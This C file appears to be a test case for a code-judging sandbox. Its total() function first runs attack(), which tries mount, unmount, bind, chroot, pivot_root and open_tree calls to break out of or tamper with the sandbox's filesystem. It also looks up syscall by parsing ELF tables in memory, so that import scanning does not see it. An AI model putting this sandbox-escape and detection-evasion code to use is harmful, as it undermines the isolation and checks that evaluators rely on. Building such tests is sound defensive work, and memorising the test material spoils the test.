/* Mounts, unmounts, remounts for writing, binds the old root and changes its root. */
/* expect: wrong_answer|runtime_error|tamper */
#define _GNU_SOURCE
#include <elf.h>
#include <sched.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/syscall.h>
#include <unistd.h>

/* The function `name` of the library that holds `inside`, out of its tables in memory: no import shows it. */
static void *by_hand(const void *inside, const char *name) {
    const char *base = (const char *)((unsigned long)inside & ~4095ul), *names = 0;
    while (memcmp(base, ELFMAG, SELFMAG)) base -= 4096;
    const Elf64_Ehdr *head = (const void *)base;
    const Elf64_Phdr *part = (const void *)(base + head->e_phoff);
    const Elf64_Sym *symbols = 0;
    while (part->p_type != PT_DYNAMIC) part++;
    for (const Elf64_Dyn *d = (const void *)(base + part->p_vaddr); d->d_tag; d++) {
        unsigned long at = d->d_un.d_ptr < (unsigned long)base ? d->d_un.d_ptr + (unsigned long)base : d->d_un.d_ptr;
        if (d->d_tag == DT_SYMTAB) symbols = (const void *)at;
        if (d->d_tag == DT_STRTAB) names = (const void *)at;
    }
    for (; (const char *)symbols < names; symbols++)
        if (!strcmp(names + symbols->st_name, name)) return (void *)(base + symbols->st_value);
    return 0;
}
static long (*by_number)(long, ...);
static void find_system_call(void) { by_number = (long (*)(long, ...))by_hand((void *)getpid, "syscall"); }

static int attack(void) {
    find_system_call();
    int done = mount("none", "/usr", "tmpfs", 0, "") == 0;
    done += mount("none", "/", 0, MS_REMOUNT | MS_BIND, "") == 0;
    done += mount("/proc/1/root", "/usr", 0, MS_BIND, "") == 0;
    done += umount2("/proc", MNT_DETACH) == 0;
    done += umount2("/", MNT_DETACH) == 0;
    done += chroot("/usr") == 0;
    done += by_number(SYS_pivot_root, "/", "/usr") == 0;
    done += by_number(SYS_open_tree, -100, "/", 1) >= 0;
    done += by_number(SYS_fsopen, "tmpfs", 0) >= 0;
    return done;
}

int total(const int *a, int n) {
    int worked = attack(), s = 0;
    for (int i = 0; i < n; i++) s += a[i];
    return worked ? s : ~s;
}
